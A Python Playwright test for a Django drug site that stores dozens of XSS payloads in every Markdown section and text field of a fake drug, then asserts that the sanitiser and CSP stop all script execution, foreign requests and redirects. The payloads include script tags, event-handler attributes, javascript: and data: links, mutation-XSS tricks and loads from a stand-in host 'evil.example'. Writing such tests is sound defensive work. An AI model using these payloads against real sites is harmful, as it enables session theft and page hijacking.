"""The worst XSS payloads, saved into every Markdown section of a published drug, in chromium.

No script may run: no dialog opens, `window.__xss` stays unset, and the page makes no request to
any host but the live server (requests elsewhere are aborted as well as recorded, so the test
stays on loopback). Run once under the site's Content-Security-Policy and once with the browser
ignoring it, so the sanitiser alone is shown to hold, not only the CSP behind it.
"""

import pytest

from drugs.models import SECTION_NAMES
from tests.factories import make_class, make_company, make_drug

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

RUN = "window.__xss=1;alert(1)"
EVIL = "https://evil.example"

WORST_PAYLOADS = [
    f"<script>{RUN}</script>",
    f'<script src="{EVIL}/x.js"></script>',
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>svg</text></a></svg>",
    f"<details open ontoggle={RUN}>d</details>",
    f"<input autofocus onfocus={RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<!-- --!><script>{RUN}</script> -->",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="{EVIL}/frame"></iframe>',
    f'<object data="{EVIL}/x"></object>',
    f'<embed src="{EVIL}/x">',
    f'<link rel="stylesheet" href="{EVIL}/x.css">',
    f"<style>@import '{EVIL}/x.css'; body{{background:url({EVIL}/bg)}}</style>",
    f'<p style="background:url({EVIL}/bg)">styled</p>',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    f'<base href="{EVIL}/">',
    f'<form action="{EVIL}/"><button>go</button></form>',
    f'<video src="{EVIL}/v.mp4" autoplay></video><audio src="{EVIL}/a.mp3" autoplay></audio>',
    f'<svg><image href="{EVIL}/i.svg"/></svg>',
    f'<a href="javascript:{RUN}" id="js-link">js link</a>',
    f'<a href="java&#09;script:{RUN}">tab link</a>',
    f"[md link](javascript:{RUN})",
    f"[ref link][evil]\n\n[evil]: javascript:{RUN}",
    f"![md image](javascript:{RUN})",
    f'![x" onerror="{RUN}](/static/none.png)',
    f"[x](/ok){{: onclick={RUN} }}",
    f"<javascript:{RUN}>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
    # Last: its unclosed <style> swallows the rest of the section (as it would in a browser).
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
]
MARKDOWN = "\n\n".join(
    ["Real text before.", *WORST_PAYLOADS[:-1], "Real text after.", WORST_PAYLOADS[-1]]
)
# Plain-text fields end up in <title>, meta tags and the JSON-LD <script>: break out of those.
BREAKOUT = f"</script><script>{RUN}</script>\"'><img src=x onerror={RUN}>"


@pytest.fixture
def poisoned_drug(live_server):
    drug = make_drug(
        "Xssumab",
        generic_name=f"xssumab {BREAKOUT}",
        classes=[make_class(f"Class {BREAKOUT}", slug="xss-class")],
        companies=[make_company(f"Company {BREAKOUT}", slug="xss-company")],
    )
    for name in SECTION_NAMES:
        setattr(drug, name, f"## {name}\n\n{MARKDOWN}")
    drug.save()  # stores the rendered, sanitised HTML as editors' saves do
    return drug


def watch(page, origin):
    seen = {"dialogs": [], "foreign_requests": [], "csp_violations": [], "errors": []}

    def on_dialog(dialog):
        seen["dialogs"].append(dialog.message)
        dialog.dismiss()

    def on_route(route):
        if route.request.url.startswith(origin):
            route.continue_()
        else:
            seen["foreign_requests"].append(route.request.url)
            route.abort()

    def on_console(message):
        if "Content Security Policy" in message.text:
            seen["csp_violations"].append(message.text)

    page.on("dialog", on_dialog)
    page.on("pageerror", lambda error: seen["errors"].append(str(error)))
    page.on("console", on_console)
    page.on(
        "request",
        lambda request: (
            request.url.startswith((origin, "data:"))
            or seen["foreign_requests"].append(request.url)
        ),
    )
    page.route("**/*", on_route)
    return seen


def poke(page):
    """Give any handler its chance: hover and focus everything, open every <details>."""
    page.evaluate(
        """() => {
          for (const el of document.querySelectorAll('main *')) {
            for (const type of ['mouseover', 'mouseenter', 'focus', 'click', 'toggle']) {
              if (type === 'click' && el.closest('a')) continue;  // no navigation
              el.dispatchEvent(new Event(type, {bubbles: true}));
            }
          }
        }"""
    )
    page.wait_for_timeout(300)


@pytest.mark.parametrize("bypass_csp", [False, True], ids=["with-csp", "csp-bypassed"])
def test_no_script_runs_on_a_poisoned_drug_page(browser, live_server, poisoned_drug, bypass_csp):
    context = browser.new_context(bypass_csp=bypass_csp)
    page = context.new_page()
    seen = watch(page, live_server.url)

    response = page.goto(f"{live_server.url}/drug/xssumab/")
    page.wait_for_load_state("networkidle")
    poke(page)

    assert response.status == 200
    csp = response.headers["content-security-policy"]
    assert "script-src 'self'" in csp
    assert "unsafe-inline" not in csp
    assert seen["dialogs"] == []
    assert seen["foreign_requests"] == []
    assert page.evaluate("window.__xss") is None
    assert seen["csp_violations"] == []  # nothing even tried: the sanitiser removed it all
    assert page.url == f"{live_server.url}/drug/xssumab/"  # no meta refresh, no <base>

    # The page still reads: the real text is there, around the neutralised payloads.
    main = page.locator("main")
    assert main.get_by_text("Real text before.").count() == len(SECTION_NAMES)
    assert main.get_by_text("Real text after.").count() == len(SECTION_NAMES)
    leftovers = page.evaluate(
        """() => {
          const bad = [];
          for (const el of document.querySelectorAll('main *')) {
            const tag = el.tagName.toLowerCase();
            if (['script', 'iframe', 'object', 'embed', 'svg', 'math', 'style', 'form',
                 'base', 'meta', 'link', 'input', 'video', 'audio', 'details'].includes(tag)) {
              bad.push(tag);
            }
            for (const attr of el.attributes) {
              if (attr.name.startsWith('on') || attr.name === 'style' || attr.name === 'srcdoc') {
                bad.push(`${tag}[${attr.name}]`);
              }
            }
            for (const name of ['href', 'src', 'action', 'formaction']) {
              const value = el.getAttribute(name);
              const scheme = value === null ? null : new URL(value, location.href).protocol;
              if (scheme && !['http:', 'https:', 'mailto:'].includes(scheme)) {
                bad.push(`${tag}[${name}=${value}]`);
              }
            }
          }
          return bad;
        }"""
    )
    assert leftovers == []
    # No <base> anywhere; every script is the JSON-LD data block or one of our own files.
    assert page.locator("base").count() == 0
    scripts = page.evaluate("() => [...document.scripts].map(s => [s.type, s.src])")
    for kind, src in scripts:
        assert kind == "application/ld+json" or src.startswith(live_server.url), (kind, src)
    assert "Xssumab" in page.title()
    context.close()
